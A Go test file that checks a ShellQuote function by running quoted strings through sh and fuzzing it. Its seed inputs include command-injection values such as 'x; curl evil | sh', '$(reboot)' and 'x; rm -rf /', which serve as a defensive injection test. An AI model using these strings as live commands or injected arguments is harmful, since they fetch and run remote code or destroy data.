package text

import (
	"os/exec"
	"testing"
)

// A quoted word reaches the command as it was, whatever it holds: the
// shell itself is asked.
func TestShellQuote(t *testing.T) {
	for in, want := range map[string]string{
		"node-abc-old":        "node-abc-old",
		"ip-10-0-1-50":        "ip-10-0-1-50",
		"":                    "''",
		"x; curl evil | sh":   "'x; curl evil | sh'",
		"it's":                `'it'\''s'`,
		"$(reboot)":           "'$(reboot)'",
		"a\nb":                "'a\nb'",
		"web-1.shop.svc:8301": "web-1.shop.svc:8301",
	} {
		if got := ShellQuote(in); got != want {
			t.Errorf("ShellQuote(%q) = %s, want %s", in, got, want)
		}
		out, err := exec.Command("sh", "-c", "printf %s "+ShellQuote(in)).Output()
		if err != nil || string(out) != in {
			t.Errorf("sh read %s as %q (%v), want %q", ShellQuote(in), out, err, in)
		}
	}
}

func FuzzShellQuote(f *testing.F) {
	for _, s := range []string{"node-a", "x; rm -rf /", "it's", "`id`", "a b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, r := range s {
			if r == 0 {
				return // no shell argument holds a NUL
			}
		}
		out, err := exec.Command("sh", "-c", "printf %s "+ShellQuote(s)).Output()
		if err != nil || string(out) != s {
			t.Errorf("sh read %s as %q (%v), want %q", ShellQuote(s), out, err, s)
		}
	})
}
